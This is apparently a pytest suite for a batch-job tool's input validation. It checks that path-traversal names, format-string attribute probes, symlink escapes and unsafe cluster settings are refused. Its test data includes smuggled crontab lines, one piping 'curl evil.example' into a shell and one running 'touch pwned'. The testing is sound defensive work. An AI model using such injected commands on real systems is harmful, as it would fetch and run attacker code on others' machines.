"""Job and cluster files written by a careless or hostile hand: names that are paths, names
that carry a second crontab line, templates that read attributes, dates that climb out of
their folder, a cluster that hangs at 0% or opens itself to the network. Each is refused
before anything runs, in one line with the exit code of its class, or made harmless."""

from __future__ import annotations

import io
import json
import os
import re
import socket
import urllib.request
import warnings
from pathlib import Path

import pandas as pd
import psutil
import pytest
import yaml

from kbatch.cli import main
from kbatch.engine.cluster import open_cluster
from kbatch.engine.config import ClusterConfig
from kbatch.errors import InputError, OutputConflictError
from kbatch.jobs.run import previous_night, run_job
from kbatch.jobs.spec import load_job

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
NIGHT = "2026-11-26"


def job_file(tmp_path: Path, **changes) -> Path:
    """A job whose input does not exist, so that a job file that loads fails at once
    (exit 3, 'does not exist') instead of running: what is tested is the load."""
    job = {"name": "nightly", "inputs": {"offers": f"{tmp_path}/missing-{{date}}.parquet"}, "output": f"{tmp_path}/out/{{date}}",
           "steps": [{"name": "vectors", "command": "embed", "input": "offers"}], "schedule": {"cron": "0 2 * * *"}}
    path = tmp_path / "job.yaml"
    path.write_text(yaml.safe_dump({**job, **changes}, allow_unicode=True))
    return path


def one_line(capsys) -> str:
    captured = capsys.readouterr()
    assert len(captured.err.strip().splitlines()) == 1, captured.err
    return captured.err


@pytest.mark.parametrize("name", ["../../../x", "a/b", "/tmp/x", ".hidden", "-rf", "two words", "x\ny", "", "a" * 65, "명사", 7])
def test_a_step_name_is_an_identifier_never_a_path(tmp_path, capsys, name):
    path = job_file(tmp_path, steps=[{"name": name, "command": "embed", "input": "offers"}])

    assert main(["run", str(path), "--date", NIGHT]) == 3
    assert f"step 1: name {name!r} is not an identifier" in one_line(capsys)


def test_a_job_name_cannot_add_a_line_to_the_crontab(tmp_path, capsys):
    path = job_file(tmp_path, name="nightly\n* * * * * curl evil.example | sh")

    assert main(["schedule", str(path)]) == 3
    assert capsys.readouterr().out == ""  # nothing a user could paste into 'crontab -e'


@pytest.mark.parametrize("systemd", [False, True])
def test_a_job_file_path_with_a_newline_cannot_add_a_line_either(tmp_path, capsys, systemd):
    folder = tmp_path / "jobs\n* * * * * touch pwned"
    folder.mkdir()
    path = job_file(tmp_path).rename(folder / "job.yaml")

    assert main(["schedule", str(path), *(["--systemd"] if systemd else [])]) == 3
    assert "control character" in one_line(capsys)
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize(
    ("steps", "named"),
    [
        ([{"name": "vectors", "command": "embed", "input": "offers"}] * 2, "name 'vectors' is already an input or an earlier step"),
        ([{"name": "offers", "command": "embed", "input": "offers"}], "name 'offers' is already an input or an earlier step"),
    ],
)
def test_two_steps_cannot_share_a_folder(tmp_path, capsys, steps, named):
    assert main(["run", str(job_file(tmp_path, steps=steps)), "--date", NIGHT]) == 3
    assert named in one_line(capsys)


@pytest.mark.parametrize(
    ("key", "value", "named"),
    [
        ("output", "out/{date.__class__}", "may use only the placeholder {date}, not {date.__class__}"),
        ("output", "out/{other}/{date}", "not {other}"),
        ("output", "out/{0}/{date}", "not {0}"),
        ("output", "out/{date!r}", "not {date!r}"),
        ("output", "out/{date:>40}", "not {date:>40}"),
        ("output", "out/{date", "is not a path template"),
        ("output", "out/nightly", "must contain {date}, so that each night has its own folder"),
        ("output", "out/{date}/..", "must end in a folder name"),
        ("inputs", {"offers": "data/{date.year}.parquet"}, "input 'offers': 'data/{date.year}.parquet' may use only"),
        ("inputs", {"../x": "data/{date}.parquet"}, "input name '../x' is not an identifier"),
        ("cache", "out/cache/{date}", "is shared by every night and takes no {date}"),
        ("name", "../nightly", "name '../nightly' is not an identifier"),
    ],
)
def test_paths_fill_in_the_date_and_nothing_else(tmp_path, capsys, key, value, named):
    if key == "output":
        value = f"{tmp_path}/{value}"
    assert main(["run", str(job_file(tmp_path, **{key: value})), "--date", NIGHT]) == 3
    assert named in one_line(capsys)


@pytest.mark.parametrize("date", ["../../x", "2026-02-30", "2026-1-5", "20261126", f"{NIGHT}/../..", f"{NIGHT}\n", "*"])
def test_a_date_is_a_real_date_never_a_path(tmp_path, capsys, date):
    job = load_job(job_file(tmp_path))

    with pytest.raises(InputError, match="must be a real date written YYYY-MM-DD"):
        job.output_for(date)
    assert main(["run", str(job_file(tmp_path)), "--date", date]) == 3
    assert repr(date) in one_line(capsys)


def write_night(folder: Path, **run) -> None:
    folder.mkdir(parents=True)
    (folder / "_run.json").write_text(json.dumps({"job": "nightly", "status": "complete", **run}))


def test_last_night_is_this_jobs_night_and_not_a_copy_or_a_stranger(tmp_path):
    """A glob character in the output folder is a character; a copy of a night, another
    job's night in the same folder and an unreadable _run.json are not last night."""
    nights = tmp_path / "out [2026]"
    job = load_job(job_file(tmp_path, output=f"{nights}/{{date}}"))
    write_night(nights / "2026-11-24", date="2026-11-24")
    write_night(nights / "2026-11-25.bak", date="2026-11-25")
    write_night(nights / "2026-11-25", date="2026-11-25", job="weekly")
    write_night(nights / "2026-11-23", date="2026-11-23", status="failed")
    (nights / "2026-11-22").mkdir()
    (nights / "2026-11-22" / "_run.json").write_text("{not json")

    assert previous_night(job, NIGHT) == str(nights / "2026-11-24")
    assert previous_night(job, "2026-11-24") is None


@pytest.fixture
def small_job(tmp_path, cluster):
    """A one-step embedding job on 20 reviews, on the session's cluster."""
    reviews = tmp_path / "reviews"
    reviews.mkdir()
    pd.read_parquet(EXAMPLES / "reviews.parquet").head(20).to_parquet(reviews / "part.parquet")
    (tmp_path / "cluster.yaml").write_text(f"address: {cluster.client.scheduler.address}\n")

    def make(**changes) -> Path:
        job = {"name": "nightly", "inputs": {"reviews": str(reviews)}, "output": f"{tmp_path}/out/{{date}}",
               "cluster": str(tmp_path / "cluster.yaml"), "steps": [{"name": "vectors", "command": "embed", "input": "reviews"}]}
        path = tmp_path / "small.yaml"
        path.write_text(yaml.safe_dump({**job, **changes}))
        return path

    return make


def test_a_step_cannot_write_through_a_link_out_of_its_night(tmp_path, small_job):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    partial = tmp_path / "out" / f"{NIGHT}.partial"
    partial.mkdir(parents=True)
    (partial / "vectors").symlink_to(elsewhere)

    with pytest.raises(OutputConflictError, match="outside the night's folder"):
        run_job(load_job(small_job()), NIGHT, progress=False, log=io.StringIO())
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"cache": "{tmp}/reviews/cache"}, "the cache ({tmp}/reviews/cache) lies inside input 'reviews'"),
        ({"output": "{tmp}/reviews/{{date}}"}, "the night's folder ({tmp}/reviews/2026-11-26) lies inside input 'reviews'"),
        ({"cache": f"{{tmp}}/out/{NIGHT}/cache"}, "the cache ({tmp}/out/2026-11-26/cache) lies inside the night's folder"),
    ],
)
def test_what_a_night_writes_stays_out_of_what_it_reads(tmp_path, small_job, changes, named):
    """Cache files in an input folder would be read as rows the next night; a cache inside the
    night's folder would move with it."""
    job = load_job(small_job(**{key: value.format(tmp=tmp_path) for key, value in changes.items()}))

    with pytest.raises(InputError, match=re.escape(named.format(tmp=tmp_path))):
        run_job(job, NIGHT, progress=False, log=io.StringIO())
    assert not list(tmp_path.rglob("*.partial"))  # refused before the night began


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("memory_limit", 5), ("memory_limit", "abc"), ("memory_limit", "0"), ("memory_limit", "-1GB"), ("memory_limit", "100MiB"),
        ("memory_limit", True), ("memory_limit", [4]),
        ("n_workers", 0), ("n_workers", -1), ("n_workers", 10_000), ("n_workers", "two"), ("n_workers", 1.5), ("n_workers", True),
        ("threads_per_worker", 0), ("threads_per_worker", "auto"), ("threads_per_worker", 5_000),
        ("torch_threads", 0), ("torch_threads", 100_000), ("torch_threads", "many"),
        ("gpu_workers", -1), ("gpu_workers", "all"),
        ("address", "host:8786"), ("address", "tcp://host"), ("address", "http://host:8786"), ("address", "tcp://host:99999"),
        ("address", 8786), ("address", "tcp://host:8786/x"), ("address", "tcp://ho st:8786"), ("address", "tcp://host\n:8786"),
        ("dashboard_address", ":99999"), ("dashboard_address", "8787x"), ("dashboard_address", 8787),
        ("dashboard_address", "::1:8787"), ("dashboard_address", "every host:8787"), ("dashboard_address", "300.0.0.1:8787"),
    ],
)
def test_a_bad_cluster_value_is_exit_6_naming_the_key(tmp_path, capsys, key, value):
    """Refused when the file is read, so a 5-byte memory limit no longer hangs a run at 0%."""
    cluster = tmp_path / "cluster.yaml"
    cluster.write_text(yaml.safe_dump({key: value}))
    pd.read_parquet(EXAMPLES / "reviews.parquet").head(5).to_parquet(tmp_path / "reviews.parquet")

    assert main(["tokenize", str(tmp_path / "reviews.parquet"), "-o", str(tmp_path / "tokens"), "--cluster", str(cluster)]) == 6
    assert f"cluster file {cluster}: {key!r} must be " in one_line(capsys)


def listening(pids: set[int]) -> dict[int, str]:
    """Port -> address of every socket that ``pids`` listen on."""
    return {c.laddr.port: c.laddr.ip for pid in pids for c in psutil.Process(pid).net_connections("inet")
            if c.status == psutil.CONN_LISTEN}


@pytest.fixture
def busy_8787():
    """Port 8787 taken, as by another cluster on this machine."""
    with socket.socket() as taken:
        try:
            taken.bind(("127.0.0.1", 8787))
            taken.listen()
        except OSError:
            pass  # something else holds it already: busy either way
        yield


@pytest.mark.parametrize(("opened", "dashboard_ip"), [({}, "127.0.0.1"), ({"dashboard_address": "0.0.0.0:8787"}, "0.0.0.0")])
def test_nothing_listens_beyond_loopback_unless_the_dashboard_is_opened(busy_8787, opened, dashboard_ip):
    """The default listens on this machine only; opening the dashboard opens nothing else.
    A busy 8787 gives a free port without Dask's four-line warning, and the printed link is
    the dashboard's (a fetch from the taken port would never answer)."""
    log = io.StringIO()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with open_cluster(ClusterConfig(n_workers=1, gpu_workers=0, **opened), log=log) as running:
            port = running.client.scheduler_info()["services"]["dashboard"]
            workers = set(running.client.run(os.getpid).values())
            ports = listening({os.getpid(), *workers})
            page = urllib.request.urlopen(running.dashboard_link, timeout=10).status

    assert not [w for w in caught if "already in use" in str(w.message)]
    assert log.getvalue() == f"kbatch: dashboard http://127.0.0.1:{port}/status\n" and port != 8787 and page == 200
    assert ports.pop(port) == dashboard_ip
    assert set(ports.values()) == {"127.0.0.1"}
